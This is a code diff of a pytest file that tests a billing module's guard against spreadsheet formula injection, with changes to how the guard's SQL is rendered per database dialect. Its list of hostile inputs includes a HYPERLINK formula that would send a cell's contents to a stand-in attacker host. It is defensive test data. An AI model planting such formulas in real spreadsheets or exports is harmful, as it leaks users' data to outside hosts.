@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 from sqlalchemy import String, literal, literal_column, select, union_all
 
-from billing.cells import guard_prefix_sql, spreadsheet_text
+from billing.cells import guard_sql, spreadsheet_text
 
 HOSTILE = [
     '=HYPERLINK("http://evil/?"&A1,"x")',
@@ -61,8 +61,9 @@ async def test_the_sql_rendering_is_the_same_rule(db):
     table = union_all(
         *[select(literal(n).label("n"), literal(v, String).label("v")) for n, v in enumerate(texts)]
     ).subquery("t")
-    query: Any = select(literal_column(guard_prefix_sql("t.v")) + table.c.v).order_by(table.c.n)
     async with db.read() as session:
         conn = await session.connection()
+        rendered_sql = guard_sql("t.v", conn.dialect.name)
+        query: Any = select(literal_column(rendered_sql)).select_from(table).order_by(table.c.n)
         rendered = (await conn.execute(query)).scalars().all()
     assert rendered == [spreadsheet_text(v) for v in texts]
